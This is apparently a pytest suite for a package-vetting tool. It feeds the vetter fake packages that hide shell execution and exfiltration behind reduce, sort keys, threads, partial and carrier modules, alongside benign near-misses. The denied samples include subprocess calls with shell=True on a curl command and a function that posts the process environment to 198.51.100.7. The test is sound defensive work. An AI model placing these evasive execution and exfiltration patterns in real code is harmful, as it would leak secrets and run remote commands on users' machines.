"""A seventh red-team pass (issue 16; ADR 0177): what ADR 0174 left open about a function
handed on.

* The standard library's other calls that run a function over items: ``functools.reduce``,
  ``itertools.accumulate``, ``xs.sort(key=)``, ``groupby(xs, f)``, ``heapq.nsmallest(n, xs,
  key=)``, ``heapq.merge``, a pool's ``starmap``; and ``timeit.timeit(f)``, ``Thread(target=f,
  kwargs=...)``, ``functools.lru_cache(f)(c)``. One table (:data:`overitems.OVER`) now says
  where each finds its function and items.
* A class handed on (``map(K, [c])``, ``partial(K, c)()``), this module's or another's.
* A call into another module with keywords (``go(c=cmd)``): the keywords were dropped.
* A function carried into a third module (``run(go, cmd)`` into ``def run(f, c): return
  f(c)``): a module that names no sink was not followed, a relative name was read from the
  wrong folder, and a function of the caller's was read with the carrier's names.

Already denied on main, so not here: a function handed on with no argument whose own module
does the harm (``Thread(target=go)``, ``atexit.register(go)``, ``signal.signal``,
``sys.excepthook = go``, ``codecs.register(go)``): the module that defines it is denied on
its own. Near-misses a real package writes stay allowed. Every sample is inert: vetting only
reads files."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import CURL, GIT_VERSION, verdict_cases, vet_package

H = "198.51.100.7"
# ``go`` runs what it is handed, or sends it: alone, neither makes a chain.
RUNS = "import subprocess\ndef go(c):\n    subprocess.call(c, shell=True)\n"
# Two parameters, as ``reduce`` and ``accumulate`` call it: the running value and the item.
FOLDS = "import subprocess\ndef go(a, c):\n    subprocess.call(c, shell=True)\n    return a\n"
SENDS = (
    f"import urllib.request\ndef go(a, d):\n"
    f"    urllib.request.urlopen('http://{H}/e', data=d)\n    return a\n"
)
MAKES = (
    "import subprocess\nclass K:\n"
    "    def __init__(self, c):\n        subprocess.call(c, shell=True)\n"
)
ENVIRON = "str(dict(os.environ)).encode()"
# Calls only what it is handed: names no sink.
CARRIER = "def run(f, c):\n    return f(c)\n"


def handed(body: str, zz: str = RUNS, **more: str) -> dict[str, str]:
    """A package whose module ``boot`` (imported by ``__init__.py``) runs ``body`` at its
    module level after ``from .zz import go``; ``zz`` defines ``go``; ``more`` adds modules
    by name (``a='...'`` is ``evpkg/a.py``)."""
    files = {
        "evpkg/__init__.py": "from . import boot\n",
        "evpkg/boot.py": f"import os\nfrom .zz import go\nCMD = {CURL!r}\n" + body,
        "evpkg/zz.py": zz,
    }
    files.update({f"evpkg/{name}.py": text for name, text in more.items()})
    return files


def one_file(body: str, defined: str = RUNS) -> dict[str, str]:
    """The same in ``__init__.py`` alone, ``go`` (or ``K``) defined there."""
    return {"evpkg/__init__.py": f"import os\n{defined}CMD = {CURL!r}\n{body}"}


def one_folder_away(body: str, carrier: str = CARRIER) -> dict[str, str]:
    """``evpkg/sub/__init__.py`` runs ``body`` after ``from ..a import run`` and ``from ..zz
    import go``: the carrier ``a`` is one folder up from the caller."""
    return {
        "evpkg/__init__.py": "from . import sub\n",
        "evpkg/sub/__init__.py": (
            f"from ..a import run\nfrom ..zz import go\nCMD = {CURL!r}\n{body}"
        ),
        "evpkg/a.py": carrier,
        "evpkg/zz.py": RUNS,
    }


DENIED: dict[str, Mapping[str, str]] = {
    # The table of calls that run a function over items.
    "reduce-with-a-start": handed("import functools\nfunctools.reduce(go, [CMD], 0)\n", FOLDS),
    "reduce-without-one": handed("import functools\nfunctools.reduce(go, [0, CMD])\n", FOLDS),
    "accumulate": handed("import itertools\nlist(itertools.accumulate([0, CMD], go))\n", FOLDS),
    "environment-reduced-into-a-sender": handed(
        f"import functools\nfunctools.reduce(go, [{ENVIRON}], b'')\n", SENDS
    ),
    "list-sorted-in-place-by-key": handed("L = [CMD]\nL.sort(key=go)\n"),
    "groupby-key-by-position": handed("import itertools\nlist(itertools.groupby([CMD], go))\n"),
    "nsmallest-key": handed("import heapq\nheapq.nsmallest(1, [CMD], key=go)\n"),
    "merge-key": handed("import heapq\nlist(heapq.merge([CMD], key=go))\n"),
    "thread-pool-starmap": handed(
        "import multiprocessing.pool\nmultiprocessing.pool.ThreadPool(1).starmap(go, [(CMD,)])\n"
    ),
    "thread-with-keyword-arguments": handed(
        "import threading\nthreading.Thread(target=go, kwargs={'c': CMD}).start()\n"
    ),
    "timeit": handed("import timeit\ntimeit.timeit(lambda: go(CMD), number=1)\n"),
    "lru-cache-wrapped": handed("import functools\nfunctools.lru_cache(go)(CMD)\n"),
    "accumulate-in-one-file": one_file(
        "import itertools\nlist(itertools.accumulate([0, CMD], go))\n", FOLDS
    ),
    "list-sorted-in-place-in-one-file": one_file("L = [CMD]\nL.sort(key=go)\n"),
    "groupby-key-by-position-in-one-file": one_file(
        "import itertools\nlist(itertools.groupby([CMD], go))\n"
    ),
    "thread-with-keyword-arguments-in-one-file": one_file(
        "import threading\nthreading.Thread(target=go, kwargs={'c': CMD}).start()\n"
    ),
    # A class handed on: its ``__init__`` runs with the item.
    "class-mapped": handed("from .zz import K\nlist(map(K, [CMD]))\n", MAKES),
    "class-bound-by-partial": handed(
        "import functools\nfrom .zz import K\nfunctools.partial(K, CMD)()\n", MAKES
    ),
    "class-mapped-in-one-file": one_file("list(map(K, [CMD]))\n", MAKES),
    "class-bound-by-partial-in-one-file": one_file(
        "import functools\nfunctools.partial(K, CMD)()\n", MAKES
    ),
    # A call into another module with keywords.
    "called-with-a-keyword": handed("go(c=CMD)\n"),
    "called-with-a-keyword-in-init": {
        "evpkg/__init__.py": f"from .zz import go\ngo(c={CURL!r})\n",
        "evpkg/zz.py": RUNS,
    },
    # Carried into a third module.
    "sink-carried-to-a-module-that-names-none": handed(
        "from .a import run\nrun(os.system, CMD)\n", a=CARRIER
    ),
    "function-carried-to-a-module-that-names-none": handed(
        "from .a import run\nrun(go, CMD)\n", a=CARRIER
    ),
    "own-function-carried-to-a-module-that-names-none": handed(
        "import subprocess\nfrom .a import run\n"
        "def sh(c):\n    subprocess.call(c, shell=True)\nrun(sh, CMD)\n",
        a=CARRIER,
    ),
    "function-carried-one-folder-away": one_folder_away("run(go, CMD)\n"),
    "function-carried-one-folder-away-to-a-thread": one_folder_away(
        "run(go, CMD)\n",
        "import threading\ndef run(f, c):\n    threading.Thread(target=f, args=(c,)).start()\n",
    ),
    "function-carried-by-absolute-name": {
        "evpkg/__init__.py": "from . import sub\n",
        "evpkg/sub/__init__.py": "from evpkg.a import run\nfrom evpkg.zz import go\n"
        f"run(go, {CURL!r})\n",
        "evpkg/a.py": "def run(f, c):\n    return list(map(f, [c]))\n",
        "evpkg/zz.py": RUNS,
    },
}

# Helpers of a module that also names a sink (so the cross-file pass reads it), handed on.
HELPERS = (
    "import logging, os, subprocess, urllib.request\n"
    "def merge(a, b):\n    return {**a, **b}\n"
    "def norm(s):\n    return s.strip().lower()\n"
    "def latest(name, timeout=2):\n"
    "    url = 'https://pypi.org/pypi/%s/json' % name\n"
    "    return urllib.request.urlopen(url, timeout=timeout).read()\n"
    "def configure(level='WARNING'):\n"
    "    logging.basicConfig(level=os.environ.get('EVPKG_LOG', level))\n"
    "class Version:\n    def __init__(self, text):\n        self.parts = text.split('.')\n"
    "class Worker:\n    def __init__(self):\n        self.log = logging.getLogger('evpkg')\n"
    "def git_rev():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"
)


def helped(body: str) -> dict[str, str]:
    """``body`` in ``boot`` with :data:`HELPERS` as ``zz``."""
    return handed(body, HELPERS)


ALLOWED: dict[str, Mapping[str, str]] = {
    "own-worker-thread-in-init": {
        "evpkg/__init__.py": "import json, os, threading\n"
        "def _warm():\n    json.loads(os.environ.get('EVPKG_CFG', '{}'))\n"
        "threading.Thread(target=_warm, daemon=True).start()\n",
    },
    "settings-merged-by-reduce": helped(
        "import functools\nfrom .zz import merge\nCFG = functools.reduce(merge, [{'a': 1}], {})\n"
    ),
    "names-sorted-in-place-by-a-helper": helped(
        "from .zz import norm\nNAMES = ['B', 'a']\nNAMES.sort(key=norm)\n"
    ),
    "names-grouped-by-a-helper": helped(
        "import itertools\nfrom .zz import norm\nG = list(itertools.groupby(['a'], norm))\n"
    ),
    "versions-mapped-to-a-class": helped(
        "from .zz import Version\nV = list(map(Version, ['1.0', '2.0']))\n"
    ),
    "worker-class-in-a-thread": helped(
        "import threading\nfrom .zz import Worker\nthreading.Thread(target=Worker).start()\n"
    ),
    "logging-configured-by-keyword": helped("from .zz import configure\nconfigure(level='INFO')\n"),
    "version-check-in-a-thread-by-keyword": helped(
        "import threading\nfrom .zz import latest\n"
        "threading.Thread(target=latest, kwargs={'name': 'evpkg'}, daemon=True).start()\n"
    ),
    "git-version-read-once-through-a-helper": {
        "evpkg/__init__.py": "from ._util import once\n" + GIT_VERSION + "V = once(get_version)\n",
        "evpkg/_util.py": "def once(f):\n    return f()\n",
    },
    "helper-timed": helped(
        "import timeit\nfrom .zz import norm\nT = timeit.timeit(lambda: norm(' X '))\n"
    ),
    "revision-cached": helped(
        "import functools\nfrom .zz import git_rev\nREV = functools.lru_cache(git_rev)\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_a_function_or_class_handed_on_carried_or_called_by_keyword(
    files: Mapping[str, str], expected: Outcome
) -> None:
    assert vet_package(files) is expected
